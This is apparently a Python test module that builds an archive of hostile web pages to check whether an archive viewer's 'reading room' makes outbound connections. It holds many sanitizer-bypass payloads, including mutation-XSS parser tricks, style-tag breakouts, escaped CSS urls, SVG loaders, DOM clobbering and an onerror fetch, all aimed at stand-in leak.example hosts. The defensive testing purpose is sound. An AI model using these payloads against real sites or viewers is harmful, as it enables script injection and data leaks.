"""Pages that try to make the reading room connect, each by its own way, and an archive of them.

Each case names hosts below a zone of its own, `NAME.leak.example`, so that a listener sees which case connects.
"""

from __future__ import annotations

import dataclasses

from hostile import record

ZONE = "leak.example"
SITE = "http://a.example"
RELS = (
    "alternate apple-touch-icon canonical compression-dictionary dns-prefetch expect help icon import manifest "
    "mask-icon"
    " modulepreload next pingback preconnect prefetch prerender search stylesheet subresource"
).split()
PRELOADED = "audio document embed fetch font image object script style track video worker".split()


@dataclasses.dataclass(frozen=True)
class Case:
    """A page, and what the archive holds beside it: the type and the body of each name."""

    name: str
    page: str
    others: tuple[tuple[str, str, str], ...] = ()
    media: str = "text/html"
    head: str = ""


def out(name: str, path: str = "x") -> str:
    """A place on the host of a case."""
    return f"https://{name}.{ZONE}/{path}"


def hint(name: str) -> str:
    """The element that no policy governs: a browser connects as soon as it is in a page."""
    return f"<link rel=preconnect href={out(name)}>"


def around(name: str, before: str, after: str = "") -> Case:
    """A case in which the hint is between other texts."""
    return Case(name, f"<!doctype html><p>{name}</p>{before}{hint(name)}{after}")


def sheet(name: str, css: str) -> Case:
    """A case with a style sheet of its own."""
    return Case(name, f'<link rel=stylesheet href="/{name}.css"><p id=p>{name}', ((f"{name}.css", "text/css", css),))


def mutations() -> list[Case]:
    """Trees that change where they are written as text and parsed again."""
    named = "mutation-"
    return [
        around(f"{named}mglyph", "<form><math><mtext></form><form><mglyph><style></math>"),
        around(f"{named}table", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;", "'>"),
        around(f"{named}svg-style", "<svg></p><style><a id='</style>", "'>"),
        around(f"{named}svg-title", "<svg><title><style><a id='</style></title></svg>", "'></style></title></svg>"),
        around(f"{named}desc", "<svg><desc><noscript><p title='</noscript></desc></svg>", "'></noscript></desc></svg>"),
        around(f"{named}annotation", "<math><annotation-xml encoding=text/html><style></math>", "</style></math>"),
        around(f"{named}foreign", "<svg><foreignObject><math><mi><style><!--</style><p title='--></svg>", "'>"),
        around(f"{named}malignmark", "<math><mtext><malignmark><style></math>"),
        around(f"{named}noscript", "<noscript><p title='</noscript>", "'></noscript>"),
        around(f"{named}noembed", "<noembed><p title='</noembed>", "'></noembed>"),
        around(f"{named}noframes", "<noframes><p title='</noframes>", "'></noframes>"),
        around(f"{named}xmp", "<svg><xmp><p title='</xmp></svg>", "'>"),
        around(f"{named}iframe", "<svg><iframe><p title='</iframe></svg>", "'>"),
        around(f"{named}textarea", "<svg><textarea><p title='</textarea></svg>", "'>"),
        around(f"{named}comment", "<svg><style><!--</style></svg><p title='-->", "'>"),
        around(f"{named}cdata", "<svg><![CDATA[</svg>", "]]></svg>"),
        around(f"{named}plaintext", "<svg><plaintext></svg><plaintext>"),
        around(f"{named}forms", "<form id=a><div></form><form id=b>", "</form></div></form>"),
        around(f"{named}select", "<select><template><style></select>", "</style></template></select>"),
        around(f"{named}template", "<template>", "</template>"),
        around(f"{named}shadow", "<div><template shadowrootmode=open>", "</template></div>"),
        around(f"{named}nested", "<a><table><a>" * 200, "</a></table>"),
        around(f"{named}deep", "<div>" * 600),
    ]


def elements() -> list[Case]:
    """Elements and attributes that load, connect or lead away."""
    preloads = "".join(f"<link rel=preload as={kind} href={out('link-preload', kind)}>" for kind in PRELOADED)
    pdf = out("pdf", "a.pdf")
    return [
        *(Case(f"link-{rel}", f"<link rel={rel} as=script href={out(f'link-{rel}')}><p>{rel}") for rel in RELS),
        Case("link-preload", preloads),
        Case("link-body", f"<p>x<link rel='x PRECONNECT' crossorigin href={out('link-body')}>"),
        Case(
            "link-svg",
            f"<svg><link xmlns='http://www.w3.org/1999/xhtml' rel=preconnect href={out('link-svg')} /></svg>",
        ),
        Case("link-head", "<p>x", head=f"Link: <{out('link-head')}>; rel=preload; as=image\r\n"),
        Case(
            "meta",
            f"<meta http-equiv=refresh content='0;url={out('meta')}'><meta http-equiv=x-dns-prefetch-control"
            f" content=on><meta http-equiv=Link content='<{out('meta')}>; rel=preconnect'><a href={out('meta')}>x</a>",
        ),
        Case("base", f"<base href={out('base', '')}><img src=a><a href=b>b</a><link rel=stylesheet href=c>"),
        Case("manifest", f"<html manifest={out('manifest')}><body background={out('manifest')}><p>x"),
        Case(
            "srcdoc",
            f"<iframe srcdoc='{hint('srcdoc')}'></iframe><iframe src='data:text/html,{hint('srcdoc')}'></iframe>",
        ),
        Case("frames", f"<frameset><frame src={out('frames')}><frame src='javascript:0'></frameset>"),
        Case(
            "pdf",
            f"<embed src={pdf} type=application/pdf><object data={pdf} type=application/pdf></object>"
            f"<iframe src={pdf}></iframe><portal src={pdf}></portal><fencedframe src={pdf}></fencedframe>",
        ),
        Case("ping", f"<a id=click href={SITE}/ping ping={out('ping')}>x</a>"),
        Case("away", f"<a id=click href={out('away')} target=_blank>x</a><a id=click href={out('away')}>x</a>"),
        Case(
            "form",
            f"<form action={out('form')}><button id=click formaction={out('form')}>x</button>"
            f"<input type=image src={out('form')}></form>",
        ),
        Case(
            "media",
            f"<video src={out('media')} poster={out('media')} autoplay></video><audio src={out('media')} autoplay>"
            f"</audio><video autoplay><source src={out('media')}><track default src={out('media')}></video>",
        ),
        Case(
            "image",
            f"<img src={out('image')} srcset='{out('image')} 2x' attributionsrc={out('image')}><picture><source"
            f" srcset={out('image')}><img lowsrc={out('image')}></picture><table background={out('image')}><td>x",
        ),
        Case(
            "script",
            f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{out('script')}\"]}}]}}</script>"
            f"<script src={out('script')}></script><script>fetch('{out('script')}')</script><img src=x onerror="
            f"\"fetch('{out('script')}')\">",
        ),
        Case(
            "xhtml",
            f"<?xml-stylesheet href='{out('xhtml')}'?><html xmlns='http://www.w3.org/1999/xhtml'><head><link"
            f" rel='preconnect' href='{out('xhtml')}'/></head><body/></html>",
            media="application/xhtml+xml",
        ),
    ]


def styles() -> list[Case]:
    """Styles that load, and that end their element."""
    end = "</style>" + hint("style-end")
    picture = (("p.png", f"image/</style>{hint('style-media')}", "x"),)
    shapes = "".join(
        f"<rect {name}='url({out('style-shapes')}#a)' width=9 height=9 />"
        for name in ("fill", "stroke", "filter", "mask", "clip-path", "marker-start", "cursor")
    )
    return [
        sheet("style-end", f"p {{ color: red }} {end}"),
        sheet("style-comment", f"/* </style>{hint('style-comment')} */ p {{ color: red }}"),
        sheet("style-string", f"p::after {{ content: '</style>{hint('style-string')}' }}"),
        Case(
            "style-import-end",
            "<style>@import '/i.css';</style>",
            (("i.css", "text/css", f"</style>{hint('style-import-end')}"),),
        ),
        Case("style-media", "<style>p { background: url(/p.png) }</style><p>x", picture),
        Case(
            "picture-media",
            "<img src=/q.png>",
            (("q.png", f'image/png"><link rel=preconnect href={out("picture-media")}>', "x"),),
        ),
        Case(
            "style-attribute",
            f"<p style=\"background:url(/a&quot;&gt;{hint('style-attribute')})\">x</p>"
            f"<p style=\"background:url('{out('style-attribute')}')\">x</p>",
        ),
        sheet("style-import", f"@import '{out('style-import')}'; @import url({out('style-import')}) screen;"),
        sheet(
            "style-import-escaped",
            f"@\\69mport '{out('style-import-escaped')}'; @import/**/'{out('style-import-escaped')}'",
        ),
        sheet(
            "style-url",
            f"p {{ background: url({out('style-url')}), url('{out('style-url')}') ; "
            f"cursor: url({out('style-url')}), auto }}",
        ),
        sheet(
            "style-escaped",
            f"p {{ background: \\75rl({out('style-escaped')}) ; background: u\\72 l(\"{out('style-escaped')}\") }}",
        ),
        sheet("style-unclosed", f"p {{ background: url({out('style-unclosed')}"),
        sheet("style-string-open", f"p {{ content: \"\n; background: url({out('style-string-open')}) }}"),
        sheet(
            "style-set",
            f"p {{ background: image-set('{out('style-set')}' 1x); background: "
            f"-webkit-image-set(url({out('style-set')}) 1x) }}",
        ),
        sheet(
            "style-font",
            f"@font-face {{ font-family: f; src: url({out('style-font')}), "
            f"url('{out('style-font')}') format('woff') }} p {{ font-family: f }}",
        ),
        sheet(
            "style-variable",
            f":root {{ --a: url({out('style-variable')}); --b: '{out('style-variable')}' }} "
            f"p {{ background: var(--a); background: image-set(var(--b) 1x) }}",
        ),
        sheet(
            "style-src",
            f"p {{ background: src('{out('style-src')}'); background: image('{out('style-src')}'); "
            f"mask: url({out('style-src')}#m) }}",
        ),
        Case(
            "style-inline",
            f"<svg><style>@import '{out('style-inline')}'; rect {{ fill: url({out('style-inline')}#a) }}</style>"
            "<rect width=9 height=9 /></svg>",
        ),
        Case("style-shapes", f"<svg>{shapes}</svg>"),
        Case(
            "style-shape-escaped",
            f"<svg><rect fill='u\\72l({out('style-shape-escaped')}#a)' mask='u\\72l({out('style-shape-escaped')}#a)' "
            "width=9 height=9 /></svg>",
        ),
    ]


def drawings() -> list[Case]:
    """SVG, in the page and as a picture."""
    host = out("drawing")
    inner = (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='90' height='40'>"
        "<style>"
        f"@import '{host}'; rect {{ fill: url({host}#a) }}</style><image href='{host}' xlink:href='{host}' width='9' "
        "height='9'/>"
        f"<use href='{host}#a' xlink:href='{host}#a'/><filter id='f'><feImage href='{host}' xlink:href='{host}'/>"
        "</filter><rect filter='url(#f)' width='9'"
        " height='9'/><foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'>"
        f"<img src='{host}'/>"
        f"<link rel='preconnect' href='{host}'/></body></foreignObject><script href='{host}'/><a href='{host}'>"
        "<text y='9'>x"
        f"<animate attributeName='href' to='{host}'/></text></a><image><set attributeName='href' to='{host}'/></image>"
        "</svg>"
    )
    return [
        Case("drawing", f"<p>x</p>{inner}<p>x</p>"),
        Case(
            "drawing-picture",
            "<img src=/d.svg><style>p { background: url(/d.svg) }</style><p>x",
            (("d.svg", "image/svg+xml", inner),),
        ),
        Case("drawing-alone", inner, media="image/svg+xml"),
    ]


def clobbering() -> list[Case]:
    """Names that hide what a script calls."""
    calls = (
        "addEventListener adoptNode attributes body childNodes contentType createElement documentElement firstChild "
        "getElementById"
    )
    images = "".join(f"<img name={it} id={it}>" for it in (calls + " head implementation querySelectorAll").split())
    inputs = "".join(
        f"<input name={it}>"
        for it in (
            calls + " getAttribute getAttributeNames localName matches parentNode remove removeAttribute tagName"
        ).split()
    )
    return [
        Case("clobber-document", f"{images}<a id=click href={SITE}/known>x</a>{hint('clobber-document')}"),
        Case("clobber-form", f"<form action={out('clobber-form')} onsubmit=x>{inputs}{hint('clobber-form')}</form>"),
        Case(
            "clobber-attributes",
            f"<form action={out('clobber-attributes')} onclick=x><select name=attributes></select></form>",
        ),
        Case(
            "clobber-parent",
            f"<form><input name=parentNode><input name=nodeName><form>{hint('clobber-parent')}</form></form>",
        ),
    ]


CASES = [*mutations(), *elements(), *styles(), *drawings(), *clobbering()]


def make(path: str) -> list[int]:
    """Writes the archive, and gives the position of each case."""
    positions: list[int] = []
    written = 0
    with open(path, "wb") as archive:
        for case in CASES:
            positions.append(written)
            for name, media, body in ((case.name, case.media, case.page), *case.others):
                block = f"HTTP/1.1 200 OK\r\nContent-Type: {media}\r\n{case.head}\r\n{body}".encode()
                archive.write(record(written, f"{SITE}/{name}", "response", block, "2026-01-01T00:00:00Z"))
                written += 1
        known = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nknown"
        archive.write(record(written, f"{SITE}/known", "response", known, "2026-01-01T00:00:00Z"))
    return positions
